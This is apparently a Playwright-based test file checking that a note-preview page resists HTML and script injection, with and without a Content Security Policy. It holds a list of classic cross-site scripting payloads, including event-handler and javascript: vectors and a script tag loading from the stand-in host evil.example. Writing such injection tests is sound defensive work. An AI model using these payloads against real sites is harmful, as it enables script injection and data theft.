import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../../../src/build/host/browser.js';
import { limits, parseToHost } from '../../../src/protocol/note.js';
import { corpus, payloads } from '../../e2e/injection/corpus.js';
import { injectedNote } from '../../e2e/injection/notes.js';
import { provoke, strangers, watch } from '../../e2e/injection/watch.js';
import { openNote, origin, type PreviewOptions } from '../../support/notePreview.js';
import { sampleNote } from '../../support/sampleNote.js';

describe('Injection', function () {
  this.timeout(120_000);
  let browser: Browser;
  before(async () => { browser = await launchBrowser(); });
  after(async () => browser?.close());

  async function attack(options: PreviewOptions): Promise<{ executed: string[]; strangers: string[]; requested: string[]; reached: string[]; url: string; pages: number; posted: unknown[]; ready: boolean }> {
    let executed: string[] = [];
    const note = await openNote(browser, { ...options, prepare: async (context) => { ({ executed } = await watch(context)); } });
    try {
      const found = await strangers(note.page.mainFrame());
      await provoke(note.page.mainFrame()).catch((error: unknown) => executed.push(`left the page: ${String(error)}`));
      return {
        executed, strangers: found, url: note.page.url(), pages: note.page.context().pages().length, posted: note.posted, ready: note.posted[0]?.type === 'ready',
        requested: note.requested.filter(isForeign), reached: note.reached.filter(isForeign),
      };
    } finally {
      await note.close();
    }
  }

  async function pageOf(texts: readonly string[]): Promise<NonNullable<PreviewOptions['page']>> {
    const title = texts.join(' ');
    return {
      note: await injectedNote('posix-basics', texts),
      navigation: { back: true, forward: true, previous: { id: 'a', title }, next: { id: 'b', title } },
      answers: { recall: { right: true, given: title.slice(0, limits.given) }, predict: { right: true, given: title.slice(0, limits.given) } },
    };
  }

  const isForeign = (url: string): boolean => ![`${origin}/`, `${origin}/note.css`, `${origin}/note.js`].includes(url);

  it('is tried with at least 120 texts, none of them twice', () => {
    assert.ok(payloads.length >= 120, `${payloads.length}`);
    assert.deepEqual(payloads, [...new Set(payloads)]);
  });

  for (const [family, texts] of Object.entries(corpus)) {
    for (const contentSecurityPolicy of [true, false]) {
      it(`${family} (${texts.length}) execute nothing, load nothing and lead nowhere${contentSecurityPolicy ? '' : ', even without the policy'}`, async () => {
        const { executed, strangers, requested, url, pages, posted, ready } = await attack({ page: await pageOf(texts), contentSecurityPolicy });
        assert.deepEqual({ executed, strangers, requested, url, pages, ready }, { executed: [], strangers: [], requested: [], url: `${origin}/`, pages: 1, ready: true });
        assert.deepEqual(posted.filter((message) => parseToHost(message) === undefined), []);
      });
    }
  }

  const raw = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)></svg>', '<iframe src="javascript:parent.alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<a href="javascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>x</details>', '<script src="https://evil.example/x.js"></script>', '<p style="background:url(https://evil.example/x)">x</p>'];

  const bare = (html: string): PreviewOptions => ({
    page: { note: sampleNote({ html, cards: [], headings: [], sources: [] }) },
    // Without the page's own script, which would stop a link by itself.
    alter: (page) => page.replace(/<script nonce[^>]*><\/script>/, ''),
  });

  it('would be seen: raw HTML without the policy runs or loads, and is a stranger', async () => {
    for (const html of raw) {
      const { executed, strangers, requested } = await attack({ ...bare(html), contentSecurityPolicy: false });
      assert.ok(executed.length + requested.length > 0, `nothing noticed: ${html}`);
      assert.ok(strangers.length > 0, `no stranger: ${html}`);
    }
  });

  it('is stopped by the policy alone, should raw HTML ever get through', async () => {
    const { executed, reached } = await attack(bare(raw.join('')));
    assert.deepEqual({ executed, reached: reached.filter((url) => !url.startsWith(origin)) }, { executed: [], reached: [] });
  });
});
